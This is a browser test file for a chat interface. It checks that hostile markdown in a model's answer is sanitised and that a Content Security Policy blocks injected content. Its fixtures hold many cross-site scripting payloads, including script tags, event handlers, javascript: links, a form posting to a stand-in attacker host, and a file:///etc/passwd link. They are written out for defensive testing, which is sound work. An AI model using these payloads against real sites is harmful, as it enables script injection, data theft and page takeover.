"""A model's answer is text from a stranger: it runs nothing, loads nothing, and changes nothing around it."""

from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from mashbox.engine.events import Thinking, ToolCall
from tests.server.live import Live
from tests.server.scripted import ScriptedEngine
from tests.ui.browser import Chat

pytestmark = pytest.mark.slow

EVIL = "http://evil.example"

HOSTILE = f"""Before the attack.

<script>window.hacked = "script"</script>
<script src="{EVIL}/x.js"></script>
<img src="{EVIL}/pixel.png" onerror="window.hacked = 'onerror'">
<svg onload="window.hacked = 'svg'"><use href="{EVIL}/x.svg#x"/></svg>
<iframe src="{EVIL}/frame" srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>
<link rel="stylesheet" href="{EVIL}/x.css">
<style>body {{ display: none }} * {{ color: red !important; background: url({EVIL}/bg.png) }}</style>
<div style="position: fixed; inset: 0; z-index: 9999; background: url({EVIL}/cover.png)">cover</div>
<form action="{EVIL}/steal"><input name="key" autofocus onfocus="window.hacked = 'focus'"><button>Go</button>
<base href="{EVIL}/"><meta http-equiv="refresh" content="0; url={EVIL}">
<a href="javascript:window.hacked='html'">html link</a>
<details open ontoggle="window.hacked='toggle'">d</details>
<object data="{EVIL}/o"></object><embed src="{EVIL}/e"><video src="{EVIL}/v" autoplay></video>
<math><mi xlink:href="javascript:window.hacked='math'">m</mi></math>
<p id="app" class="composer thread" name="getElementById">clobbered</p>

![pixel]({EVIL}/markdown.png) ![data](data:image/svg+xml,%3Csvg%20onload=window.hacked=1%3E)

[script link](javascript:window.hacked='link') [case](JaVaScRiPt:window.hacked='case')
[tabbed](java\tscript:window.hacked='tab') [data](data:text/html,<script>window.hacked=1</script>)
[vb](vbscript:msgbox) [file](file:///etc/passwd) <javascript:window.hacked='auto'>

[good link]({EVIL}/page "a title")

$\\href{{javascript:window.hacked='katex'}}{{x}}$ $\\includegraphics{{{EVIL}/tex.png}}$
$\\htmlStyle{{position: fixed; inset: 0}}{{y}}$ $\\url{{javascript:window.hacked='url'}}$

```html
<script>window.hacked = "code"</script>
```

After the attack.
"""

INSIDE = """(answer) => {
  const elements = [...answer.querySelectorAll("*")];
  const attributes = elements.flatMap((element) => [...element.attributes]);
  return {
    tags: [...new Set(elements.map((element) => element.localName))],
    handlers: attributes.map(({ name }) => name).filter((name) => name.startsWith("on")),
    styles: attributes.filter(({ name }) => name === "style").map(({ value }) => value),
    ids: attributes.filter(({ name }) => name === "id" || name === "name").map(({ value }) => value),
    links: attributes.filter(({ name }) => /href|src|action|data$/.test(name)).map(({ value }) => value),
    fixed: elements.filter((element) => getComputedStyle(element).position === "fixed").length,
  };
}"""

FORBIDDEN = {
    *("script", "style", "link", "img", "iframe", "object", "embed", "video", "audio", "form", "input"),
    *("base", "meta", "use", "foreignobject", "frame", "template", "dialog", "textarea", "select"),
}


KINDS = [
    *("connect-src", "frame-src", "img-src", "script-src-elem", "style-src-elem"),
    *("require-trusted-types-for", "trusted-types"),
]
"""What a policy can forbid, of that which an attack would try."""


def hostile(chat: Chat) -> dict[str, Any]:
    """What stands in an answer after the attack."""
    chat.ask("Attack!", "After the attack.")
    chat.embellished()
    # Whatever an attack has begun by now has its turn.
    chat.page.wait_for_timeout(300)
    found: dict[str, Any] = chat.answers.last.evaluate(INSIDE)
    return found


def test_hostile_markdown(engine: ScriptedEngine, chat: Chat) -> None:
    engine.script = [HOSTILE]
    found = hostile(chat)
    assert chat.page.evaluate("window.hacked") is None
    assert not FORBIDDEN & set(found["tags"])
    assert (found["handlers"], found["ids"], found["fixed"]) == ([], [], 0)
    assert [style for style in found["styles"] if "position" in style or "url" in style] == []
    assert [link for link in found["links"] if not link.startswith(("http://", "https://", "#"))] == []
    # The page around it stands as it stood.
    assert chat.page.url.startswith("http://127.0.0.1:")
    expect(chat.box).to_be_visible()
    expect(chat.box).to_be_focused()
    expect(chat.answers.last).to_contain_text("Before the attack.")
    assert len(chat.page.query_selector_all("#app")) == 1


def test_hostile_markdown_that_streams_in_pieces(engine: ScriptedEngine, chat: Chat) -> None:
    engine.script = [
        step for piece in range(0, len(HOSTILE), 7) for step in (HOSTILE[piece : piece + 7], 0.002)
    ]
    found = hostile(chat)
    assert chat.page.evaluate("window.hacked") is None
    assert not FORBIDDEN & set(found["tags"])
    assert found["handlers"] == []


def test_links_open_on_a_click_only_and_elsewhere(engine: ScriptedEngine, server: Live, chat: Chat) -> None:
    engine.script = [f"See [the page]({server.url}/health) and [another]({EVIL}/)."]
    chat.ask("Where?", "the page")
    link = chat.answers.get_by_role("link", name="the page")
    with chat.page.context.expect_page() as opened:
        link.click()
    opened.value.wait_for_url(f"{server.url}/health")
    assert opened.value.evaluate("[window.opener, document.referrer]") == [None, ""]
    assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
    expect(chat.answers).to_be_visible()


def test_a_hostile_title_thought_and_call_are_text(engine: ScriptedEngine, chat: Chat) -> None:
    attack = "<img src=x onerror=\"window.hacked='title'\">"
    engine.script = [Thinking(attack), "ok", ToolCall("call_1", attack, '{"a": "</pre><script>x</script>"}')]
    chat.ask(attack, "ok")
    expect(chat.conversations.first).to_have_text(attack)
    chat.turns.get_by_text("Thought").first.click()
    chat.page.wait_for_timeout(300)
    assert chat.page.evaluate("window.hacked") is None
    assert chat.page.query_selector_all("img, .turn script") == []


def test_a_line_of_a_megabyte(engine: ScriptedEngine, chat: Chat) -> None:
    line = "word " * 200_000 + "THE-END"
    engine.script = [line[start : start + 50_000] for start in range(0, len(line), 50_000)]
    chat.send("Go on.")
    expect(chat.answers.last).to_contain_text("THE-END", timeout=120_000)
    chat.settled(60_000)
    engine.script = ["a" * 1_000_000, " THE-END"]
    chat.send("Without spaces.")
    expect(chat.answers.nth(1)).to_contain_text("THE-END", timeout=120_000)
    chat.settled(60_000)
    assert chat.page.evaluate("document.scrollingElement.scrollWidth <= innerWidth")
    engine.script = ["short"]
    chat.ask("And now?", "short")


def test_the_policy_stands_against_what_would_get_through(server: Live, browser: Browser) -> None:
    """Were an attack to pass the sanitiser, the browser itself would stop it."""
    answered: list[str] = []
    with browser.new_context() as context:
        context.on("response", lambda response: answered.append(response.url))
        page = context.new_page()
        page.goto(server.url)
        tried = page.evaluate(
            """async ([evil, kinds]) => {
              const blocked = new Set();
              addEventListener("securitypolicyviolation", (event) => blocked.add(event.effectiveDirective));
              const make = (name, set) => Object.assign(document.createElement(name), set);
              const put = (name, set) => document.body.append(make(name, set));
              import(evil + "/x.js").catch(() => undefined);
              put("img", { src: evil + "/x.png" });
              put("style", { textContent: "body { display: none }" });
              put("iframe", { src: evil });
              const refused = [];
              const attempt = (name, action) => {
                try { action(); } catch (error) { refused.push(name); }
              };
              attempt("script", () => put("script", { text: "window.hacked = 'inline'" }));
              attempt("script's address", () => put("script", { src: evil + "/x.js" }));
              const box = document.createElement("div");
              attempt("html", () => (box.innerHTML = '<p onclick="window.hacked = 1">x</p>'));
              attempt("worker", () => new Worker("/assets/other.js"));
              attempt("policy", () => trustedTypes.createPolicy("other", { createHTML: (html) => html }));
              attempt("policy of the same name", () => trustedTypes.createPolicy("mashbox", {}));
              attempt("handler", () => box.setAttribute("onclick", "window.hacked = 1"));
              document.body.append(box);
              box.click();
              await fetch(evil).catch(() => undefined);
              // Each is told of in its own time.
              const end = performance.now() + 15000;
              while (kinds.some((kind) => !blocked.has(kind)) && performance.now() < end)
                await new Promise((resolve) => setTimeout(resolve, 20));
              return { blocked: [...blocked], refused, hacked: window.hacked ?? null };
            }""",
            [EVIL, KINDS],
        )
        assert tried["hacked"] is None
        # An attribute that is script may be refused by either of two directives.
        assert set(tried["blocked"]) - {"script-src-attr"} == set(KINDS)
        scripts = {"script", "script's address", "worker"}
        assert set(tried["refused"]) >= {*scripts, "html", "policy", "policy of the same name"}
        assert page.evaluate("getComputedStyle(document.body).display") != "none"
        assert [url for url in answered if not url.startswith(server.url)] == []
